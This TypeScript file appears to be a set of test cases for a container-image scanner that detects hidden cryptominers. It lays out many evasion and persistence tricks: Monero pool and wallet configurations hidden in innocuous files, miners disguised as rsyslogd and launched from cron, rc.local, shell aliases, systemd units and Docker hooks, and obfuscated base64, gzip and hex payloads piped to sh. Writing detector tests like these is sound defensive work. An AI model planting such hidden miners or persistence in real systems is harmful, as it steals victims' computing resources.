import { gzipSync } from 'node:zlib';
import {
  bitcoinSegwitAddress,
  dogecoinAddress,
  ethereumAddress,
  litecoinAddress,
  moneroAddress,
  moneroIntegratedAddress,
  moneroSubaddress,
  ravencoinAddress,
} from '../../testkit/addresses.ts';
import { base64, type ImageCase, image, layer, MINER_STRINGS, program, starts } from './image-case.ts';

const XMR = moneroAddress('hidden miners');
const SUB = moneroSubaddress('hidden miners');
const INTEGRATED = moneroIntegratedAddress('hidden miners');
/** An unknown host and a bare port, as real configurations have it. */
const POOL = 'mx-eu.backend.example:10128';
const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };

const CONFIG = {
  autosave: true,
  cpu: { enabled: true, 'huge-pages': true, rx: [0, 1, 2] },
  randomx: { mode: 'auto', wrmsr: true },
  'donate-level': 0,
  pools: [{ algo: 'rx/0', url: POOL, user: XMR, pass: 'x', keepalive: true, tls: true }],
};
const MINIFIED = JSON.stringify(CONFIG);
const COMMENTED = `/* generated */
{
    // leave alone
    "autosave": true,
    "randomx": { "mode": "auto", "1gb-pages": false, },
    "donate-level": 0, /* was 1 */
    "pools": [
        { "url": "${POOL}", "user": "${XMR}", "pass": "x", "tls": true, },
    ],
}
`;

function proof(name: string, spec: ImageCase['spec']): ImageCase {
  return { name, spec, rule: 'miner/proof', severity: 'critical' };
}

/** A file in an image that seems to do something else. */
function inFile(path: string, text: string | Buffer): ImageCase {
  return proof(path, image({ [path]: text }, NGINX));
}

const CONFIGURATIONS: readonly ImageCase[] = [
  inFile('usr/share/nginx/mime.dat', MINIFIED),
  inFile('var/lib/misc/.state', COMMENTED),
  inFile('usr/lib/x86_64-linux-gnu/libnss.cache', MINIFIED),
  inFile('etc/nginx/conf.d/upstream.conf', COMMENTED),
  inFile('opt/a/picture.png', MINIFIED),
  inFile('srv/notes.txt', JSON.stringify(CONFIG, null, 4)),
  inFile('opt/utf16.json', Buffer.from(`\ufeff${JSON.stringify(CONFIG, null, 2)}`, 'utf16le')),
  inFile('opt/utf16-be.cfg', Buffer.from(`\ufeff${COMMENTED}`, 'utf16le').swap16()),
  inFile('opt/bom.json', `\ufeff${MINIFIED}`),
  inFile(
    'opt/app/large.json',
    JSON.stringify({
      translations: Array.from({ length: 6000 }, (_, i) => `a phrase number ${i} of many`),
      ...CONFIG,
    }),
  ),
  inFile('opt/app/early.json', JSON.stringify({ ...CONFIG, rest: 'x '.repeat(150_000) })),
  inFile(
    'etc/app/pool.yaml',
    `# app\nworkers: 4\npool:\n  url: "${POOL}"\n  user: ${XMR}.$(hostname)\n  tls: true\n`,
  ),
  inFile('etc/app/app.toml', `[mining]\nendpoint = "${POOL}"\nlogin = "${XMR}+25000"\n`),
  inFile(
    'opt/app/app.properties',
    `backend.pool.address=${POOL}\nbackend.pool.wallet=${XMR}/me@example.org\n`,
  ),
  inFile('opt/app/.env', `POOL_HOST=mx-eu.backend.example\nPOOL_PORT=10128\nWALLET="${XMR}"\n`),
  inFile('opt/app/a.ini', `[Miner]\r\nPool=${POOL}\r\nUser=XMR:${XMR}.w1\r\n`),
  inFile('opt/app/conf.xml', `<c><pool url="${POOL}"/><account user="${XMR}"/></c>`),
  inFile('opt/app/settings.js', `module.exports = { pool: '${POOL}', wallet: '${XMR}' };\n`),
  inFile('opt/app/config.py', `POOL = "${POOL}"\nWALLET = (\n    "${XMR}"\n)\n`),
  inFile('opt/app/lua.conf', `return { pool = "${POOL}", wallet = "${XMR}" }\n`),
  inFile('opt/app/sub.json', MINIFIED.replace(XMR, SUB)),
  inFile('opt/app/integrated.json', MINIFIED.replace(XMR, INTEGRATED)),
  inFile('opt/app/ip.json', MINIFIED.replace(POOL, '198.51.100.7:443')),
  inFile('opt/app/ipv6.json', MINIFIED.replace(POOL, '[2001:db8::7]:3333')),
  inFile('opt/app/onion.json', MINIFIED.replace(POOL, `${'a'.repeat(56)}.onion:18081`)),
  inFile(
    'opt/app/escaped.json',
    MINIFIED.replace(
      POOL,
      [...POOL].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
    ),
  ),
  inFile('opt/app/base64.dat', base64(MINIFIED)),
  inFile('opt/app/double.dat', base64(base64(MINIFIED))),
  inFile('opt/app/packed.dat', base64(gzipSync(MINIFIED))),
  inFile(
    'opt/litecoin.json',
    `{"url":"stratum+tcp://ltc.backend.example:3333","user":"${litecoinAddress('x')}.1"}`,
  ),
  inFile(
    'opt/doge.json',
    `{"pools":[{"coin":"dogecoin","algo":"ghostrider","url":"rx.backend.example:3333","user":"DOGE:${dogecoinAddress('x')}.rig#ab12-cd34"}]}`,
  ),
  inFile(
    'opt/raven.txt',
    `server=stratum+tcp://rvn.2miners.com:6060\nuser=${ravencoinAddress('x')}.rig\nalgo=kawpow\n`,
  ),
  inFile('opt/eth.txt', `POOL1: eu1.ethermine.org:4444\nWALLET: ${ethereumAddress('x')}\n`),
  inFile(
    'opt/btc.conf',
    `{"pools":[{"url":"stratum+ssl://btc.backend.example:443","user":"${bitcoinSegwitAddress('x')}.r"}]}`,
  ),
  inFile('opt/miner.service.d/env.conf', `[Service]\nEnvironment=POOL=${POOL} WALLET=${XMR}\n`),
];

const EXEC = `/usr/sbin/rsyslogd -o ${POOL} -u ${XMR} -p x --tls -k`;

const COMMANDS: readonly ImageCase[] = [
  proof('CMD only', image({}, { Cmd: ['/usr/sbin/rsyslogd', '-o', POOL, '-u', `${XMR}.w`, '--tls'] })),
  proof(
    'options in CMD, program in ENTRYPOINT',
    image({}, { Entrypoint: ['/init'], Cmd: [`--url=${POOL}`, `--user=${XMR}`] }),
  ),
  proof(
    'HEALTHCHECK',
    image({}, { ...NGINX, Healthcheck: { Test: ['CMD-SHELL', `pgrep rsyslogd || (${EXEC} &)`] } }),
  ),
  proof('ONBUILD', image({}, { ...NGINX, OnBuild: [`RUN echo '${EXEC}' > /etc/rc.local`] })),
  proof(
    'a wallet in three variables',
    starts(
      `A=${XMR.slice(0, 30)}\nB='${XMR.slice(30, 60)}'\nC="${XMR.slice(60)}"\nH=mx-eu.backend.example\n/usr/sbin/rsyslogd -o $H:10128 -u "\${A}\${B}$C"`,
    ),
  ),
  proof(
    'a wallet put together by printf',
    starts(
      `W=$(printf '%s%s' ${XMR.slice(0, 50)} ${XMR.slice(50)})\nset -- -o ${POOL} -u "$W"\nexec /usr/sbin/rsyslogd "$@"`,
    ),
  ),
  proof('an array', starts(`ARGS=(-o ${POOL} -u ${XMR} -p x)\nexec /usr/sbin/rsyslogd "\${ARGS[@]}"`)),
  proof(
    'variables from a sourced file',
    starts('. /etc/default/app\n/usr/sbin/rsyslogd -o "$POOL" -u "$WALLET"', {
      'etc/default/app': `POOL=${POOL}\nWALLET=${XMR}\n`,
    }),
  ),
  proof(
    'default values of variables',
    starts(`/usr/sbin/rsyslogd -o "\${POOL:-${POOL}}" -u "\${WALLET:=${XMR}}"`),
  ),
  proof(
    'ENV and a script',
    starts(
      '/usr/sbin/rsyslogd --url "$API" --user "$TOKEN" -p x',
      {},
      { Env: [`API=${POOL}`, `TOKEN=${XMR}`] },
    ),
  ),
  proof(
    'ENV split over variables',
    starts(
      '/usr/sbin/rsyslogd -o $A -u $B$C',
      {},
      { Env: [`A=${POOL}`, `B=${XMR.slice(0, 40)}`, `C=${XMR.slice(40)}`] },
    ),
  ),
  proof(
    'ENV of a well-known image',
    image({}, { ...NGINX, Env: [`POOL_URL=${POOL}`, `POOL_USER=${XMR}`, 'DONATE_LEVEL=1'] }),
  ),
  proof('ENV with a command line', image({}, { ...NGINX, Env: [`JAVA_OPTS=-o ${POOL} -u ${XMR}`] })),
  proof('ENV in base64', image({}, { ...NGINX, Env: [`X=${base64(EXEC)}`] })),
  inFile('etc/cron.d/man-db', `*/7 * * * * root ${EXEC} >/dev/null 2>&1\n`),
  inFile('var/spool/cron/crontabs/www-data', `@reboot ${EXEC}\n`),
  inFile('etc/periodic/15min/rotate', `#!/bin/sh\n${EXEC}\n`),
  inFile('etc/profile.d/vte.sh', `${EXEC} 2>/dev/null &\n`),
  inFile('root/.bash_aliases', `alias ls='ls --color; ${EXEC} &'\n`),
  inFile('etc/rc.local', `#!/bin/sh -e\n(sleep 60; ${EXEC}) &\nexit 0\n`),
  inFile('etc/supervisor/conf.d/log.conf', `[program:log]\ncommand=bash -c "${EXEC}"\n`),
  inFile(
    'lib/systemd/system/log.service',
    `[Service]\nEnvironment=P=${POOL}\nExecStart=/bin/sh -c '${EXEC}'\n`,
  ),
  inFile('etc/s6-overlay/s6-rc.d/log/run', `#!/command/execlineb -P\n${EXEC}\n`),
  inFile('etc/services.d/log/run', `#!/usr/bin/with-contenv bash\ns6-setuidgid nobody ${EXEC}\n`),
  inFile(
    'etc/init.d/log',
    `#!/bin/sh\nstart-stop-daemon --start --exec /usr/sbin/rsyslogd -- -o ${POOL} -u ${XMR}\n`,
  ),
  inFile('etc/inittab', `::respawn:${EXEC}\n`),
  inFile('srv/app/Procfile', `web: node index.js\nworker: ${EXEC}\n`),
  inFile('srv/app/package.json', JSON.stringify({ name: 'x', scripts: { start: `node . & ${EXEC}` } })),
  inFile(
    'srv/app/docker-compose.yml',
    `services:\n  web:\n    command: ["/usr/sbin/rsyslogd", "-o", "${POOL}", "-u", "${XMR}"]\n`,
  ),
  inFile(
    'opt/run.py',
    `#!/usr/bin/env python3\nimport subprocess\npool = "${POOL}"\nwallet = "${XMR}"\nsubprocess.Popen(["/usr/sbin/rsyslogd", "-o", pool, "-u", wallet])\n`,
  ),
  inFile(
    'opt/run2.py',
    `#!/usr/bin/env python3\nimport os\nos.system("/usr/sbin/rsyslogd -o ${POOL} -u %s" % "${XMR}")\n`,
  ),
  inFile(
    'opt/run3.py',
    `#!/usr/bin/python3\nimport subprocess as s\nW = "${XMR.slice(0, 48)}" \\\n    "${XMR.slice(48)}"\ns.run(["/usr/sbin/rsyslogd", "--url=${POOL}", "--user=" + W])\n`,
  ),
  inFile(
    'opt/run.js',
    `#!/usr/bin/env node\nconst { spawn } = require('child_process');\nspawn('/usr/sbin/rsyslogd', ['-o', '${POOL}', '-u', '${XMR}'], { detached: true });\n`,
  ),
  inFile(
    'opt/run.pl',
    `#!/usr/bin/perl\nmy $w = '${XMR}';\nexec "/usr/sbin/rsyslogd", "-o", "${POOL}", "-u", $w;\n`,
  ),
  inFile('opt/run.rb', `#!/usr/bin/env ruby\nspawn("/usr/sbin/rsyslogd -o ${POOL} -u ${XMR}")\n`),
  inFile(
    'opt/run.php',
    `<?php\n$p='${POOL}'; shell_exec("/usr/sbin/rsyslogd -o $p -u ${XMR} > /dev/null &");\n`,
  ),
  proof('base64 twice', starts(`echo ${base64(base64(EXEC))} | base64 -d | base64 -d | sh`)),
  proof(
    'base64 and tr',
    starts(
      `echo ${
        base64(EXEC).replace(/[a-z]/g, (c) => c.toUpperCase()).length > 0
          ? base64(EXEC)
              .split('')
              .map((c) => (c === 'A' ? '!' : c))
              .join('')
          : ''
      } | tr '!' 'A' | base64 --decode | bash`,
    ),
  ),
  proof('base64 of gzip', starts(`echo '${base64(gzipSync(EXEC))}' | base64 -d | gunzip | sh`)),
  proof('hex', starts(`echo ${Buffer.from(EXEC).toString('hex')} | xxd -r -p | sh`)),
  proof(
    'a configuration written by the script',
    starts(`mkdir -p /run/x\ncat <<EOF > /run/x/c\n${COMMENTED}\nEOF\n/usr/sbin/rsyslogd --config=/run/x/c`),
  ),
  proof(
    'a configuration from ENV',
    starts(
      'echo "$CFG" | base64 -d > /tmp/c.json; /usr/sbin/rsyslogd -c /tmp/c.json',
      {},
      { Env: [`CFG=${base64(MINIFIED)}`] },
    ),
  ),
  proof(
    'a template filled by sed',
    starts(
      `sed -e "s/@POOL@/${POOL}/" -e "s/@WALLET@/${XMR}/" /opt/t.json > /tmp/c.json; /usr/sbin/rsyslogd -c /tmp/c.json`,
      { 'opt/t.json': '{"pools":[{"url":"@POOL@","user":"@WALLET@"}],"donate-level":1}' },
    ),
  ),
];

const PROGRAMS: readonly ImageCase[] = [
  {
    name: 'a renamed program',
    spec: image({ 'usr/sbin/nginx': program(MINER_STRINGS) }, NGINX),
    rule: 'miner/program',
    severity: 'critical',
  },
  {
    name: 'a library',
    spec: image({ 'usr/lib/libz.so.1': program(MINER_STRINGS) }, NGINX),
    rule: 'miner/program',
    severity: 'high',
  },
  {
    name: 'upper case',
    spec: image({ 'usr/sbin/nginx': program(MINER_STRINGS.map((s) => s.toUpperCase())) }, NGINX),
    rule: 'miner/program',
    severity: 'critical',
  },
  {
    name: 'scanner words around it, started',
    spec: image(
      {
        'usr/sbin/nginx': program([
          ...MINER_STRINGS,
          'coinminer',
          'cryptojack',
          'rootkit',
          'webshell',
          'yara rule',
          'ransomware',
        ]),
      },
      NGINX,
    ),
    rule: 'miner/program',
    severity: 'critical',
  },
  {
    name: 'scanner words around it, with wallet and pool',
    spec: image(
      {
        'usr/lib/libz.so.1': program([
          ...MINER_STRINGS,
          'coinminer',
          'cryptojack',
          'rootkit',
          'webshell',
          XMR,
          'pool.supportxmr.com:443',
        ]),
      },
      NGINX,
    ),
    rule: 'miner/proof',
    severity: 'critical',
  },
  {
    name: 'names of miners and pools around it, started',
    spec: image(
      {
        'usr/sbin/nginx': program([
          ...MINER_STRINGS,
          'xmrig/',
          'xmr-stak',
          'cpuminer',
          'ccminer',
          'nbminer',
          'lolminer',
          'srbminer',
          'nanominer',
          'bfgminer',
        ]),
      },
      NGINX,
    ),
    rule: 'miner/program',
    severity: 'critical',
  },
  {
    name: 'behind a link to a folder',
    spec: image(
      { 'opt/real/srv': program(MINER_STRINGS), 'opt/link': { type: 'symlink', target: 'real' } },
      { Cmd: ['/opt/link/srv'] },
    ),
    rule: 'miner/program',
    severity: 'critical',
  },
  {
    name: 'a hard link',
    spec: image(
      { 'opt/a': program(MINER_STRINGS), 'usr/bin/httpd': { type: 'hardlink', target: 'opt/a' } },
      { Cmd: ['httpd'] },
    ),
    rule: 'miner/program',
    severity: 'critical',
  },
  {
    name: 'deleted',
    spec: image([layer({ 'opt/.c/x': program(MINER_STRINGS) }), layer({ 'opt/.wh..c': '' })], NGINX),
    rule: 'miner/program',
    severity: 'medium',
  },
  {
    name: 'replaced',
    spec: image(
      [layer({ 'usr/sbin/nginx': program(MINER_STRINGS) }), layer({ 'usr/sbin/nginx': program() })],
      NGINX,
    ),
    rule: 'miner/program',
    severity: 'medium',
  },
  {
    name: 'hidden by an opaque folder',
    spec: image([layer({ 'opt/c/x': program(MINER_STRINGS) }), layer({ 'opt/c/.wh..wh..opq': '' })], NGINX),
    rule: 'miner/program',
    severity: 'medium',
  },
  {
    name: 'in a zstd layer',
    spec: image([layer({ 'usr/sbin/nginx': program(MINER_STRINGS) }, { compression: 'zstd' })], NGINX),
    rule: 'miner/program',
    severity: 'critical',
  },
  {
    name: 'its configuration deleted',
    spec: image([layer({ 'opt/c.json': MINIFIED }), layer({ 'opt/.wh.c.json': '' })], NGINX),
    rule: 'miner/proof',
    severity: 'high',
  },
  {
    name: 'its configuration over a file of the base',
    spec: image([layer({ 'etc/a.json': MINIFIED }), layer({ 'etc/a.json': '{}' })], NGINX),
    rule: 'miner/proof',
    severity: 'high',
  },
];

const WALLETS: readonly ImageCase[] = [
  { name: 'a wallet in ENV', spec: image({}, { ...NGINX, Env: [`TOKEN=${XMR}`] }), rule: 'wallet/address' },
  {
    name: 'a wallet in LABEL',
    spec: image({}, { ...NGINX, Labels: { maintainer: XMR } }),
    rule: 'wallet/address',
  },
  {
    name: 'a wallet in CMD',
    spec: image({}, { Cmd: ['/srv/app', '--account', SUB] }),
    rule: 'wallet/address',
  },
  {
    name: 'an integrated address in a file',
    spec: image({ 'opt/a.txt': `id=${INTEGRATED}\n` }, NGINX),
    rule: 'wallet/address',
  },
  {
    name: 'a wallet in a file without ending',
    spec: image({ 'var/cache/x': `${XMR}\n` }, NGINX),
    rule: 'wallet/address',
  },
  {
    name: 'a pool in ENV',
    spec: image({}, { ...NGINX, Env: ['UPSTREAM=gulf.moneroocean.stream:10128'] }),
    rule: 'pool/address',
  },
  {
    name: 'a look-alike pool',
    spec: image({ 'opt/a.conf': 'upstream=pool.supportxmr.com.example:443\n' }, NGINX),
    rule: 'pool/address',
    severity: 'low',
  },
  {
    name: 'a pool in a started script',
    spec: starts('/usr/sbin/rsyslogd --connect stratum+ssl://backend.example:443'),
    rule: 'pool/address',
    severity: 'high',
  },
  {
    name: 'a worker without wallet, with miner options',
    spec: starts(`/usr/sbin/rsyslogd -o ${POOL} -u rig7 -p x --nicehash --donate-level 1`),
    rule: 'miner/command',
    severity: 'high',
  },
];

/** Miners hidden in ways that their detectors were not written for. All inert. */
export const MINERS: readonly ImageCase[] = [...CONFIGURATIONS, ...COMMANDS, ...PROGRAMS, ...WALLETS];
